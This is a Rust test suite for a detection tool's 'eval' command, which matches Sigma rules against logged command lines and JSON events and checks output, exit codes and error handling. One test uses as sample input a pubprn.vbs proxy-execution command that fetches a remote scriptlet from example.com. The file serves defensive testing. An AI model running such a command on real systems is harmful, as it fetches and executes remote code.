use super::{BROKEN_RULE, PARENT_RULE, Place, RULE};
use cutout_core::catalog::pack::PACKS;
use serde_json::{Value, json};
use std::io::Read;

/// How many rules the pack has that is used without any other.
fn pack() -> usize {
    PACKS[0].rules.len()
}

/// The row of [`RULE`].
fn row(index: u64, line: u64, format: &str, verdict: &str) -> Value {
    let event = json!({ "index": index, "line": line, "format": format });
    let rule = json!({ "id": "11111111-2222-4333-8444-555555555555", "title": "Tool ran", "language": "sigma" });
    json!({ "event": event, "rule": rule, "verdict": verdict, "needs": [] })
}

#[test]
fn json_rows_have_exactly_the_documented_shape_and_order() {
    let place = Place::new("eval_shape");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", "# a comment\n\ntool.exe x\nother.exe\n");
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "lines.txt"]);
    let expected = concat!(
        r#"{"event":{"index":0,"line":3,"format":"command-lines"},"#,
        r#""rule":{"id":"11111111-2222-4333-8444-555555555555","title":"Tool ran","language":"sigma"},"#,
        r#""verdict":"match","needs":[]}"#,
        "\n",
        r#"{"summary":{"events":2,"rules":1,"match":1,"cannot_tell":0}}"#,
        "\n",
    );
    assert_eq!(
        (ran.stdout.as_str(), ran.stderr.as_str(), ran.code),
        (expected, "", Some(0))
    );
}

#[test]
fn all_adds_the_rules_that_do_not_match() {
    let place = Place::new("eval_all");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", "tool.exe\nother.exe\n");
    let (rows, _) = place
        .run(&[
            "eval",
            "--rules",
            "rule.yml",
            "--json",
            "--all",
            "lines.txt",
        ])
        .rows_and_summary();
    assert_eq!(
        rows,
        [
            row(0, 1, "command-lines", "match"),
            row(1, 2, "command-lines", "no_match")
        ]
    );
}

#[test]
fn a_cannot_tell_names_the_fields_that_would_settle_it() {
    let place = Place::new("eval_needs");
    place
        .file("rule.yml", PARENT_RULE)
        .file("lines.txt", "tool.exe\n");
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "lines.txt"]);
    let (rows, summary) = ran.rows_and_summary();
    assert_eq!(rows[0]["verdict"], "cannot_tell");
    assert_eq!(rows[0]["needs"], json!(["ParentImage"]));
    assert_eq!(rows[0]["rule"]["id"], Value::Null);
    assert_eq!(summary["summary"]["cannot_tell"], 1);
    let ran = place.run(&["eval", "--rules", "rule.yml", "lines.txt"]);
    assert!(
        ran.stdout.contains(
            "lines.txt:1  tool.exe\n  can't tell  low  Tool under a parent  needs ParentImage\n"
        ),
        "{}",
        ran.stdout
    );
}

#[test]
fn rules_for_another_log_say_nothing_unless_asked() {
    let place = Place::new("eval_logsource");
    let record = r#"{"EventID": 11, "Channel": "Microsoft-Windows-Sysmon/Operational", "TargetFilename": "x", "CommandLine": "tool"}"#;
    place.file("rule.yml", RULE).file("events.json", record);
    let args = [
        "eval",
        "--rules",
        "rule.yml",
        "--json",
        "--all",
        "events.json",
    ];
    let (rows, summary) = place.run(&args).rows_and_summary();
    assert_eq!((rows, &summary["summary"]["events"]), (vec![], &json!(1)));
    let (rows, _) = place
        .run(&[&args[..], &["--ignore-logsource"]].concat())
        .rows_and_summary();
    assert_eq!(rows, [row(0, 1, "json", "match")]);
}

#[test]
fn without_rules_the_pack_is_used() {
    let place = Place::new("eval_pack");
    place.file("lines.txt", "cscript //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct\n");
    let ran = place.run(&["eval", "lines.txt"]);
    assert!(
        ran.stdout
            .contains("  match       medium  Pubprn.vbs Proxy Execution\n"),
        "{}",
        ran.stdout
    );
    assert!(
        ran.stdout.ends_with(&format!(
            "1 event in 1 file, {} rules: 1 match, 4 can't tell\n",
            pack()
        )),
        "{}",
        ran.stdout
    );
    place.file("rule.yml", RULE);
    let ran = place.run(&[
        "eval",
        "--pack",
        "t1216",
        "--rules",
        "rule.yml",
        "--json",
        "lines.txt",
    ]);
    assert_eq!(ran.rows_and_summary().1["summary"]["rules"], pack() + 1);
}

#[test]
fn a_derived_event_has_its_own_index_and_its_parents_line() {
    let place = Place::new("eval_derived");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", "\ncmd /c tool.exe\ntool.exe\n");
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "lines.txt"]);
    let (rows, _) = ran.rows_and_summary();
    let expected =
        [(0, 2), (1, 2), (2, 3)].map(|(index, line)| row(index, line, "command-lines", "match"));
    assert_eq!(rows, expected);
    let ran = place.run(&["eval", "--rules", "rule.yml", "lines.txt"]);
    assert!(
        ran.stdout.contains("lines.txt:2 (derived)  tool.exe\n"),
        "{}",
        ran.stdout
    );
}

#[test]
fn several_files_share_one_count_and_are_named() {
    let place = Place::new("eval_files");
    place
        .file("rule.yml", RULE)
        .file("logs/b.txt", "tool b\n")
        .file("logs/a/x.json", r#"{"CommandLine": "tool a"}"#);
    place
        .file("logs/skipped.bin", "tool")
        .file("logs/.hidden.txt", "tool");
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "logs"]);
    let (rows, summary) = ran.rows_and_summary();
    let separator = std::path::MAIN_SEPARATOR;
    let events: Vec<Value> = rows.iter().map(|row| row["event"].clone()).collect();
    assert_eq!(
        events,
        [
            json!({ "index": 0, "line": 1, "format": "json", "file": format!("logs{separator}a{separator}x.json") }),
            json!({ "index": 1, "line": 1, "format": "command-lines", "file": format!("logs{separator}b.txt") }),
        ]
    );
    assert_eq!(
        summary,
        json!({ "summary": { "events": 2, "rules": 1, "match": 2, "cannot_tell": 0 } })
    );
    assert!(
        ran.stderr.contains("left out in folders: 1 .bin"),
        "{}",
        ran.stderr
    );
}

#[test]
fn standard_input_is_read_once() {
    let place = Place::new("eval_stdin");
    place.file("rule.yml", RULE);
    let ran = place.run_with(
        &["eval", "--rules", "rule.yml", "--json", "-"],
        b"tool.exe\r\n",
    );
    assert_eq!(
        ran.rows_and_summary().0,
        [row(0, 1, "command-lines", "match")]
    );
    let ran = place.run_with(&["eval", "--rules", "-", "--json", "-"], b"");
    assert_eq!(ran.code, Some(2));
    assert!(ran.stderr.contains("only once"), "{}", ran.stderr);
}

#[test]
fn empty_input_is_no_events() {
    let place = Place::new("eval_empty");
    let ran = place.run_with(&["eval", "--json", "-"], b"");
    assert_eq!(
        ran.stdout,
        format!(
            "{{\"summary\":{{\"events\":0,\"rules\":{},\"match\":0,\"cannot_tell\":0}}}}\n",
            pack()
        )
    );
    assert_eq!((ran.stderr.as_str(), ran.code), ("", Some(0)));
    let ran = place.run_with(&["eval", "-"], b"\n# only this\n");
    assert_eq!(
        ran.stdout,
        format!(
            "0 events in 1 file, {} rules: no match, 0 can't tell\n",
            pack()
        )
    );
}

#[test]
fn bytes_that_are_not_text_are_reported_and_the_rest_counts() {
    let place = Place::new("eval_bytes");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", b"tool one\ntool \xFF\xFE two\n\0tool\n");
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "lines.txt"]);
    assert_eq!(ran.rows_and_summary().1["summary"]["match"], 3);
    assert!(
        ran.stderr
            .starts_with("lines.txt:2:6: warning[invalid-text]: "),
        "{}",
        ran.stderr
    );
    assert_eq!(ran.code, Some(0));
}

#[test]
fn a_broken_record_is_reported_and_the_others_count() {
    let place = Place::new("eval_record");
    place.file("rule.yml", RULE);
    place.file(
        "events.json",
        "{\"CommandLine\": \"tool\"}\n{\"CommandLine\": tool}\n{\"CommandLine\": \"tool\"}\n",
    );
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "events.json"]);
    assert_eq!(ran.rows_and_summary().1["summary"]["match"], 2);
    assert!(
        ran.stderr.starts_with("events.json:2:18: error["),
        "{}",
        ran.stderr
    );
    assert_eq!(ran.code, Some(0));
}

#[test]
fn a_file_that_is_not_read_as_events_leaves_the_run_incomplete() {
    let place = Place::new("eval_format");
    place
        .file("rule.yml", RULE)
        .file("a.txt", "CEF:0|Example|IDS|1|2|a|5|\n")
        .file("b.txt", "tool\n");
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "a.txt", "b.txt"]);
    assert_eq!(ran.rows_and_summary().1["summary"]["match"], 1);
    assert!(
        ran.stderr
            .starts_with("a.txt:1:1: error[format-unsupported]: "),
        "{}",
        ran.stderr
    );
    assert_eq!(ran.code, Some(2));
}

/// Unix, since the file has no content on disk there.
#[cfg(unix)]
#[test]
fn a_record_that_is_too_long_ends_its_file_and_the_others_are_evaluated() {
    let place = Place::new("eval_large");
    place.file("rule.yml", RULE).file("b.txt", "tool\n");
    place.file("a.txt", "tool\n");
    let large = std::fs::File::options()
        .write(true)
        .open(place.folder.join("a.txt"))
        .unwrap();
    large.set_len(200 << 20).unwrap();
    let ran = place.run(&["eval", "--rules", "rule.yml", "--json", "a.txt", "b.txt"]);
    std::fs::remove_file(place.folder.join("a.txt")).unwrap();
    assert_eq!(ran.rows_and_summary().1["summary"]["match"], 2);
    let expected =
        "cutout: a.txt: has a record of more than 32 MB, and is read no further; split it there\n";
    assert_eq!((ran.stderr.as_str(), ran.code), (expected, Some(2)));
}

#[test]
fn a_format_can_be_chosen() {
    let place = Place::new("eval_chosen");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", "{\"CommandLine\": \"tool\"}\n");
    let ran = place.run(&[
        "eval",
        "--rules",
        "rule.yml",
        "--json",
        "--format",
        "command-lines",
        "lines.txt",
    ]);
    assert_eq!(
        ran.rows_and_summary().0,
        [row(0, 1, "command-lines", "match")]
    );
}

#[test]
fn a_path_that_is_not_there_ends_the_run_before_it_starts() {
    let place = Place::new("eval_missing");
    place.file("lines.txt", "tool\n");
    let ran = place.run(&["eval", "lines.txt", "nowhere.txt"]);
    assert_eq!((ran.stdout.as_str(), ran.code), ("", Some(2)));
    assert_eq!(
        ran.stderr,
        "cutout: nowhere.txt: there is no such file or folder; check the path\n"
    );
    let ran = place.run(&["eval", "--rules", "nowhere.yml", "lines.txt"]);
    assert_eq!(ran.code, Some(2));
    assert!(ran.stderr.contains("nowhere.yml"), "{}", ran.stderr);
}

#[test]
fn a_broken_rule_is_named_and_the_others_run() {
    let place = Place::new("eval_broken");
    place
        .file("rules/good.yml", RULE)
        .file("rules/broken.yml", BROKEN_RULE)
        .file("lines.txt", "tool\n");
    let ran = place.run(&["eval", "--rules", "rules", "--json", "lines.txt"]);
    let (rows, summary) = ran.rows_and_summary();
    assert_eq!(
        (rows.len(), &summary["summary"]["rules"], ran.code),
        (1, &json!(1), Some(0))
    );
    assert!(
        ran.stderr
            .contains("broken.yml:6:17: error[sigma-modifier]: "),
        "{}",
        ran.stderr
    );
    assert!(
        ran.stderr
            .contains("1 of 2 rules can't be used; the others run"),
        "{}",
        ran.stderr
    );
}

#[test]
fn no_rule_that_can_be_used_is_a_failure() {
    let place = Place::new("eval_no_rule");
    place
        .file("broken.yml", BROKEN_RULE)
        .file("empty/readme.md", "")
        .file("lines.txt", "tool\n");
    let ran = place.run(&["eval", "--rules", "broken.yml", "lines.txt"]);
    assert_eq!((ran.stdout.as_str(), ran.code), ("", Some(2)));
    assert!(
        ran.stderr.contains("the rule can't be used"),
        "{}",
        ran.stderr
    );
    let ran = place.run(&["eval", "--rules", "empty", "lines.txt"]);
    assert_eq!(ran.code, Some(2));
    assert!(
        ran.stderr.contains("empty: no rule files in there"),
        "{}",
        ran.stderr
    );
    let ran = place.run(&["eval", "empty"]);
    assert_eq!(ran.code, Some(2));
    assert!(
        ran.stderr.contains("empty: no files with events in there"),
        "{}",
        ran.stderr
    );
}

#[test]
fn fail_on_decides_the_exit_code() {
    let place = Place::new("eval_fail_on");
    place
        .file("high.yml", RULE)
        .file("low.yml", PARENT_RULE)
        .file("lines.txt", "tool\n")
        .file("quiet.txt", "other\n");
    let code = |rule: &str, what: &str, events: &str| {
        place
            .run(&["eval", "--rules", rule, "--fail-on", what, events])
            .code
            .unwrap()
    };
    assert_eq!(code("high.yml", "match", "lines.txt"), 1);
    assert_eq!(code("high.yml", "match", "quiet.txt"), 0);
    assert_eq!(code("high.yml", "high", "lines.txt"), 1);
    assert_eq!(code("high.yml", "critical", "lines.txt"), 0);
    assert_eq!(code("low.yml", "match", "lines.txt"), 0);
    assert_eq!(code("low.yml", "cannot-tell", "lines.txt"), 1);
    assert_eq!(code("low.yml", "informational", "lines.txt"), 0);
    assert_eq!(
        place
            .run(&["eval", "--rules", "high.yml", "lines.txt"])
            .code,
        Some(0)
    );
}

#[test]
fn text_of_events_cannot_drive_the_terminal() {
    let place = Place::new("eval_escape");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", "tool \x1b[2J\u{202e}\x07\n");
    let ran = place.run(&["eval", "--rules", "rule.yml", "lines.txt"]);
    assert!(ran.stdout.contains("tool ␛[2J\u{fffd}␇"), "{}", ran.stdout);
}

#[test]
fn colour_only_where_it_is_asked_for() {
    let place = Place::new("eval_colour");
    place.file("rule.yml", RULE).file("lines.txt", "tool\n");
    let stdout = |set: &[(&str, &str)]| {
        let mut command = place.command(&["eval", "--rules", "rule.yml", "lines.txt"]);
        let output = command.envs(set.iter().copied()).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    assert!(!stdout(&[]).contains('\x1b'));
    assert!(stdout(&[("CLICOLOR_FORCE", "1")]).contains('\x1b'));
    assert!(!stdout(&[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")]).contains('\x1b'));
}

/// `cutout eval … | head -1`.
#[test]
fn a_reader_that_leaves_early_is_no_trouble() {
    let place = Place::new("eval_pipe");
    place
        .file("rule.yml", RULE)
        .file("lines.txt", "tool\n".repeat(50_000));
    for (args, code) in [(&[][..], 0), (&["--fail-on", "match"], 1)] {
        let args = [
            &["eval", "--rules", "rule.yml", "--json", "lines.txt"],
            args,
        ]
        .concat();
        let mut child = place.command(&args).spawn().unwrap();
        child
            .stdout
            .take()
            .unwrap()
            .read_exact(&mut [0; 10])
            .unwrap();
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(code));
        assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
    }
}
